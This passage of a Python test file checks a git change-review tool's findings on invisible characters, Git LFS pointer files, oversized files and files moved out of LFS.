    tmp_path: Path, path: str, old: str, new: str, expected: str | None
) -> None:
    repo = before_and_after(tmp_path / "repo", path, old, new)
    manifest = manifest_of("--repo", repo, "HEAD", "--fail-on", "never")
    found = findings_of(manifest, "text/invisible-character")
    if expected is None:
        assert found == []
        return
    [(_, severity, where, line, message)] = found
    assert (severity, where, line) == ("warning", path, 1)
    assert f"characters that show as nothing ({expected}) on 1 added line" in message
    brief = run("--repo", repo, "HEAD", "--format", "brief").stdout
    assert "\u200b" not in brief and "\u3164" not in brief and "\U000e0070" not in brief


def lfs_pointer(oid: str, size: int) -> str:
    return f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid * 64}\nsize {size}\n"


def test_a_git_lfs_pointer_is_no_file_of_its_kind(tmp_path: Path) -> None:
    """Found by an adversarial review: a dataset kept in Git LFS and updated was parsed
    as its extension says (`data/syntax`, `python/syntax`: errors, exit 1), while its
    content is in LFS's storage. A pointer is read by no analyzer, stays significant
    (its new oid is the change), and is listed as what no reviewer can read."""
    from repos import two_commits

    paths = ("data/train.json", "models/weights.py", "data/params.toml")
    old = {path: lfs_pointer("a", 100) for path in paths}
    new = {path: lfs_pointer("b", 200) for path in paths}
    repo = two_commits(tmp_path / "repo", old, new)
    result = run("--repo", repo, "HEAD")
    assert result.status == 0, result.stderr
    manifest = json.loads(result.stdout)
    assert manifest["findings"] == []
    assert manifest["ledger"]["unreviewable"] == {"lfs": sorted(paths)}
    for entry in manifest["files"]:
        assert (entry["classification"], entry["t1"], entry["t1_cause"]) == (
            "significant",
            "missing",
            "lfs-pointer",
        )
    # A file of the same kind that is no pointer is still parsed.
    broken = two_commits(tmp_path / "broken", {"a.json": "{}\n"}, {"a.json": "{\n"})
    assert findings_of(manifest_with_findings("--repo", broken, "HEAD"), "data/syntax")


def test_a_large_file_past_the_limit_is_told_when_it_grows_by_a_tenth_of_it(
    tmp_path: Path,
) -> None:
    """Found by an adversarial review: a badge line added to 26 notebooks already past
    the limit was 26 warnings. Crossing it, or growing by a tenth of it, is told."""
    from repos import two_commits

    big = "x" * 99 + "\n"
    old = {"grown.txt": big * 12, "badge.txt": big * 12, "crossed.txt": big * 9}
    new = {
        "grown.txt": big * 13,
        "badge.txt": big * 12 + "badge\n",
        "crossed.txt": big * 11,
    }
    repo = two_commits(tmp_path / "repo", old, new)
    (tmp_path / "config.yml").write_text("large_file_bytes: 1000\n")
    manifest = manifest_with_findings("--repo", repo, "HEAD", "--config", tmp_path / "config.yml")
    assert [row[2] for row in findings_of(manifest, "text/large-file")] == [
        "crossed.txt",
        "grown.txt",
    ]


def test_a_file_moved_out_of_git_lfs_is_read_as_what_it_now_is(tmp_path: Path) -> None:
    """A review of the fix: a pointer at the base and text at the head was read by no
    analyzer (invalid JSON, no finding) and listed as unreviewable."""
    from repos import two_commits

    repo = two_commits(
        tmp_path / "repo", {"data.json": lfs_pointer("a", 100)}, {"data.json": "{\n"}
    )
    manifest = manifest_with_findings("--repo", repo, "HEAD")
    assert [row[0] for row in findings_of(manifest, "data/syntax")] == ["data/syntax"]
    assert "unreviewable" not in manifest["ledger"]
